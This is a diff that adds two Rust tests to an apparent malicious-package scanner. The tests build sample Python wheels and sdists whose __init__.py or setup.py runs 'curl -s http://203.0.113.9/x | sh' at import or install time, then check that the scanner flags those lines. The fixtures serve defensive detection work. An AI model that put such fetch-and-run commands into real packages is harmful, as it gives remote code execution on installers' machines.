@@ -963,3 +963,53 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
     from_shards.sort();
     assert_eq!(from_shards, ["a/pkg/core.py", "b/pkg/core.py", "c/pkg/core.py", "d/tool/hooks.py"]);
 }
+
+#[test]
+fn an_archive_is_read_as_what_its_bytes_are_not_what_its_name_says() {
+    // Wheels stored as `NAME-py3-none-any.tar.gz` (as package mirrors and malware datasets keep
+    // them) are zips; a tarball named `.whl` is still a tarball.
+    let dir = repo();
+    make_wheel(
+        &dir.path().join("evil-1.0-py3-none-any.tar.gz"),
+        &[("evil/__init__.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n")],
+    );
+    make_sdist(
+        &dir.path().join("other-1.0-py3-none-any.whl"),
+        &[("other/__init__.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n")],
+        &[],
+    );
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
+    let paths: std::collections::BTreeSet<&str> =
+        doc["findings"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
+    assert!(paths.contains("evil-1.0-py3-none-any.tar.gz!/evil/__init__.py"), "{doc}");
+    assert!(paths.contains("other-1.0-py3-none-any.whl!/other/__init__.py"), "{doc}");
+}
+
+#[test]
+fn a_setup_py_that_does_not_parse_is_still_read_and_its_error_reported() {
+    // Python 2's print statement: the file is a syntax error to Python 3's grammar, and the
+    // install-time download and shell run after it are still there to report.
+    let dir = repo();
+    let setup = b"import os\nprint \"installing\"\nos.system('curl -s http://203.0.113.9/x | sh')\nfrom setuptools import setup\nsetup(name='p')\n";
+    make_sdist(&dir.path().join("p-1.0.tar.gz"), &[("p-1.0/setup.py", setup)], &[]);
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    let errors = doc["errors"].as_array().unwrap();
+    assert_eq!(errors.len(), 1, "{doc}");
+    assert_eq!(errors[0]["kind"], "syntax");
+    assert_eq!(errors[0]["path"], "p-1.0.tar.gz!/p-1.0/setup.py");
+    assert_eq!(errors[0]["line"], 2);
+    let at_line_3: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"] == "p-1.0.tar.gz!/p-1.0/setup.py" && f["line"] == 3)
+        .filter_map(|f| f["severity"].as_str())
+        .collect();
+    assert!(at_line_3.iter().any(|s| *s == "high" || *s == "critical"), "{doc}");
+    assert_eq!(doc["stats"]["files_with_errors"], 1, "{doc}");
+}
